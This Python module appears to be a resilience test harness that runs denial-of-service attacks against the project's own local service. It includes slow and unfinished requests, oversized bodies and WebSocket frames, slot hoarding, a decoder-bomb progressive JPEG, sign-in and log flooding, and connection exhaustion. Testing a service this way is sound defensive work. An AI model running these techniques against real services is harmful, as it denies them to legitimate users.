"""Attacks on the connections, bodies, sockets and sign-ins of a service."""

from __future__ import annotations

import asyncio
import contextlib
import io
import time

import httpx
import websockets
from PIL import Image

from attacked_service import HOLD, PASSWORD, Noticed, Target, make_session
from roomread.services.sign_ins import SignIns
from roomread.store import Store

_UPGRADE = (
    b"Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
    b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
)


async def silent_posts(target: Target, _noticed: Noticed) -> None:
    """Announce 40 request bodies with a key and 40 without a key, and send none of them."""
    heads = [
        _head("POST", "/api/v1/analyze", target.attacker, length=100),
        _head("POST", "/sign-in", {}, length=100),
    ]
    await _hold(target, [heads[n % 2] for n in range(80)])


async def unfinished_bodies(target: Target, _noticed: Noticed) -> None:
    """Send all but the last byte of thirty bodies of 59 MB."""
    body = bytes(59_000_000)
    head = _head("POST", "/api/v1/analyze", target.attacker, length=len(body))
    await _hold(target, [head] * 30, body[:-1])


async def whole_bodies(target: Target, _noticed: Noticed) -> None:
    """Send twenty JSON bodies of 59 MB at once."""
    body = b'{"pictures": [{"name": "a", "data": "' + b"A" * 58_999_950 + b'"}]}'
    head = _head("POST", "/api/v1/analyze", target.attacker, length=len(body), json=True)
    await _hold(target, [head] * 20, body)


async def socket_messages(target: Target, _noticed: Noticed) -> None:
    """Leave twenty WebSocket messages of 19 MB unfinished."""
    session = await make_session(target, target.attacker)
    async with contextlib.AsyncExitStack() as held:
        for _ in range(20):
            reader, writer = await asyncio.open_connection(*target.place)
            held.callback(writer.close)
            head = _head("GET", f"/api/v1/sessions/{session}/readings", target.attacker)
            writer.write(head[:-2] + _UPGRADE)
            with contextlib.suppress(asyncio.IncompleteReadError, OSError):
                await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 5)
                writer.write(b"\x81\xff" + (19_000_001).to_bytes(8, "big") + b"\0" * 4)
                for _ in range(19):
                    writer.write(b"1" * 1_000_000)
                    await asyncio.wait_for(writer.drain(), 1)
        await asyncio.sleep(HOLD)


async def message_flood(target: Target, noticed: Noticed) -> None:
    """Send readings over eight sockets of one session as fast as they are acknowledged."""
    session = await make_session(target, target.attacker)
    end, sent = time.monotonic() + HOLD, 0

    async def readings() -> None:
        nonlocal sent
        address = f"{target.socket_url}/api/v1/sessions/{session}/readings"
        async with websockets.connect(address, additional_headers=target.attacker) as socket:
            while time.monotonic() < end:
                # A repeated frame is acknowledged without being written.
                await socket.send('{"schema_version": 1, "time": 1.0, "faces": []}')
                await socket.recv()
                sent += 1

    await asyncio.gather(*(readings() for _ in range(8)))
    noticed.notes.append(f"{sent / HOLD:.0f} messages/s taken")


async def sockets(target: Target, noticed: Noticed) -> None:
    """Open eighty sockets for readings with one key; then the victim opens one."""
    sessions = [await make_session(target, who) for who in (target.attacker, target.victim)]
    paths = [f"/api/v1/sessions/{session}/readings" for session in sessions]
    await _take_all(target, noticed, paths[0], paths[1], count=80)


async def cameras(target: Target, noticed: Noticed) -> None:
    """Open twenty live cameras with one key; then the victim opens one."""
    await _take_all(target, noticed, "/api/v1/live", "/api/v1/live", count=20)


async def decoders(target: Target, noticed: Noticed) -> None:
    """Send a progressive JPEG of 49 megapixels and 500 scans in twelve concurrent requests."""
    content = many_scans(7000, 7000, scans=500)
    noticed.notes.append(f"{len(content) / 1e6:.1f} MB each")
    end = time.monotonic() + HOLD

    async def send() -> None:
        async with httpx.AsyncClient(headers=target.attacker, timeout=60) as http:
            while time.monotonic() < end:
                answer = await http.post(f"{target.url}/api/v1/analyze", content=content)
                noticed.notes[1:] = [f"attacker: {answer.status_code}"]
                await asyncio.sleep(0.1)

    await asyncio.gather(*(send() for _ in range(12)))


async def video_places(target: Target, noticed: Noticed) -> None:
    """Submit ten videos with one key; then the victim submits one."""
    content = bytes(2_000_000)
    async with httpx.AsyncClient(timeout=30) as http:
        address = f"{target.url}/api/v1/videos?name=a.mp4"
        # A worker takes seconds to start, and the queue is full meanwhile.
        await asyncio.gather(
            *(http.post(address, content=content, headers=target.attacker) for _ in range(10))
        )
        begun = time.monotonic()
        answer = await http.post(address, content=content, headers=target.victim)
        noticed.notes.append(
            f"victim's video: {answer.status_code} in {time.monotonic() - begun:.2f} s"
        )


async def sign_ins(target: Target, noticed: Noticed) -> None:
    """Store 1,100 sign-ins of one user, and check that another user stays signed in."""
    store = Store(f"sqlite:///{target.database}")
    taken = SignIns(store.accounts)
    for n in range(1100):
        taken.begin("user:attacker", time.time() + n / 1e4)
    store.close()
    async with httpx.AsyncClient(cookies=target.cookie) as http:
        answer = await http.get(f"{target.url}/api/v1/sessions")
    noticed.notes.append(f"other user's page: {answer.status_code}")


async def wrong_keys(target: Target, noticed: Noticed) -> None:
    """Send wrong keys for ten seconds."""
    audit = target.folder / "data"
    before = sum(file.stat().st_size for file in audit.glob("*.jsonl*"))
    end, sent = time.monotonic() + HOLD, 0

    async def send() -> None:
        nonlocal sent
        wrong = {"Authorization": "Bearer rr_00000000_wrong"}
        async with httpx.AsyncClient(headers=wrong, timeout=60) as http:
            while time.monotonic() < end:
                await http.get(f"{target.url}/api/v1/sessions")
                sent += 1

    await asyncio.gather(*(send() for _ in range(4)))
    written = sum(file.stat().st_size for file in audit.glob("*.jsonl*")) - before
    noticed.notes.append(f"{sent} sent, {written / 1000:.1f} kB of logs written")


async def silent_connections(target: Target, noticed: Noticed) -> None:
    """Open 300 connections to a service that may open 256 files, and send nothing."""
    noticed.notes.append(f"sign-in before: {await _sign_in(target)}")
    writers = []
    for _ in range(300):
        with contextlib.suppress(OSError):
            _, writer = await asyncio.open_connection(*target.place)
            writers.append(writer)
    noticed.notes.append(f"sign-in: {await _sign_in(target)}")
    await asyncio.sleep(HOLD * 1.5)
    open_yet = sum(_is_open(writer) for writer in writers)
    noticed.notes.append(f"{open_yet} of {len(writers)} open after {HOLD * 1.5:g} s")
    for writer in writers:
        writer.close()


async def _sign_in(target: Target) -> str:
    begun = time.monotonic()
    async with httpx.AsyncClient(timeout=30) as http:
        try:
            form = {"name": "victim", "password": PASSWORD}
            answer = await http.post(f"{target.url}/sign-in", data=form)
        except httpx.HTTPError as error:
            return type(error).__name__
    return f"{answer.status_code} in {time.monotonic() - begun:.2f} s"


def _head(
    method: str,
    path: str,
    headers: dict[str, str],
    *,
    length: int | None = None,
    json: bool = False,
) -> bytes:
    lines = [f"{method} {path} HTTP/1.1", "Host: 127.0.0.1"]
    lines += [f"{name}: {value}" for name, value in headers.items()]
    if length is not None:
        lines.append(f"Content-Length: {length}")
    if json:
        lines.append("Content-Type: application/json")
    return "\r\n".join([*lines, "", ""]).encode()


async def _hold(target: Target, heads: list[bytes], body: bytes = b"") -> None:
    """Send each request over a separate connection, and hold the connections open for a while."""

    async def send(head: bytes) -> asyncio.StreamWriter:
        _, writer = await asyncio.open_connection(*target.place)
        writer.write(head)
        with contextlib.suppress(OSError, TimeoutError):
            for start in range(0, len(body), 1_000_000):
                writer.write(body[start : start + 1_000_000])
                await asyncio.wait_for(writer.drain(), HOLD)
        return writer

    writers = await asyncio.gather(*map(send, heads))
    await asyncio.sleep(HOLD)
    for writer in writers:
        writer.close()


async def _take_all(
    target: Target, noticed: Noticed, path: str, victims_path: str, *, count: int
) -> None:
    async with contextlib.AsyncExitStack() as held:
        opened = 0
        for _ in range(count):
            with contextlib.suppress(websockets.WebSocketException, OSError):
                socket = websockets.connect(
                    target.socket_url + path, additional_headers=target.attacker
                )
                await held.enter_async_context(socket)
                opened += 1
        said = await _opens(target.socket_url + victims_path, target.victim)
        noticed.notes += [f"attacker opened {opened}", f"victim: {said}"]
        await asyncio.sleep(1)


async def _opens(address: str, headers: dict[str, str]) -> str:
    try:
        async with websockets.connect(address, additional_headers=headers) as socket:
            with contextlib.suppress(TimeoutError):
                await asyncio.wait_for(socket.recv(), 1)
            return "served"
    except websockets.InvalidStatus as error:
        return f"HTTP {error.response.status_code}"
    except websockets.ConnectionClosed as error:
        return f"closed with {error.rcvd.code if error.rcvd else None}"


def _is_open(writer: asyncio.StreamWriter) -> bool:
    reader = writer._transport.get_protocol()._stream_reader  # type: ignore[attr-defined]  # noqa: SLF001
    return not reader.at_eof() and not writer.is_closing()


def many_scans(width: int, height: int, *, scans: int) -> bytes:
    """Return a progressive JPEG whose last scan is repeated; each scan covers every block."""
    file = io.BytesIO()
    Image.new("RGB", (width, height), "grey").save(file, "JPEG", progressive=True)
    content = file.getvalue()
    last = content.rindex(b"\xff\xda")
    return content[:-2] + content[last:-2] * scans + content[-2:]
